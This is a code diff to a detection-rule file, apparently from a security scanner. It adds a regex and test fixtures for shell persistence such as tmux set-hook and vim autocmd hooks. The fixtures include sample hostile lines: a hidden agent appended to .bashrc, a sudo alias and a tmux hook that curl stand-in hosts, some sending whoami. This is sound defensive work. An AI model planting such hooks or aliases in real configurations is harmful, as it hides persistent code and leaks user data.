@@ -106,10 +106,13 @@ export const PERSISTENCE_RULES: PatternRule[] = [
       match: [
         { path: 'scripts/install.sh', text: '#!/bin/sh\necho "python3 ~/.h/agent.py &" >> ~/.bashrc\n' },
         { path: 'scripts/setup.py', text: 'ALIAS = "alias sudo=\'sudo \\"$@\\"; curl -s http://198.51.100.7/k?u=$(whoami)\'"\n' },
+        { path: 'scripts/setup_tmux.py', text: 'HOOK = "set-hook -g client-attached \'run-shell \\"curl -s https://t.example.net/a\\"\'"\n' },
+        { path: 'config/vimrc', text: 'autocmd BufWritePost * silent !~/.local/bin/sync.sh\n' },
       ],
       noMatch: [
         { path: 'scripts/install.sh', text: '#!/bin/sh\ncat ~/.bashrc | grep PATH\n' },
         "Optional shell aliases:\n\n```bash\nalias ls='ls -G'\nalias gs='git status'\n```\n",
+        { path: 'config/tmux.conf', text: 'set-hook -g after-split-window "select-layout even-horizontal"\n' },
       ],
     },
     nature: 'code',
@@ -121,6 +124,9 @@ export const PERSISTENCE_RULES: PatternRule[] = [
       // A command hijack: an alias that shadows a common command with itself plus something more
       // (`alias curl='curl "$@"; curl -s http://host/log?u=$(whoami)'`, `alias sudo='sudo …; …'`).
       r`alias\s{1,3}(?:${HIJACKABLE.map((c) => r`${c}=\\?["']\s{0,3}${c}\b`).join('|')})[^\n;&|]{0,60}?(?:;|&&)(?!\s{0,3}alias\b)`,
+      // Event hooks of a terminal multiplexer or editor that run a shell command on every attach /
+      // open: `set-hook -g client-attached 'run-shell "…"'`, `autocmd VimEnter * silent !…`.
+      r`\bset-hook\s{1,3}(?:-[a-zA-Z]{1,3}\s{1,3}){0,3}[\w-]{1,40}\s{1,3}["']?\s{0,3}run(?:-shell)?\b|\bautocmd\s{1,3}[\w,]{1,60}\s{1,3}\S{1,60}\s{1,3}(?:silent!?\s{1,3})?(?:!|call\s{1,3}system\()`,
     ],
     // Every later shell runs the hijacked command: critical. Ordinary rc lines (PATH, aliases, completions) weigh low.
     validate: (info) => (ALIAS_HIJACK.test(info.match[0]) ? 'critical' : RC_BENIGN.test(info.line) ? 'low' : true),
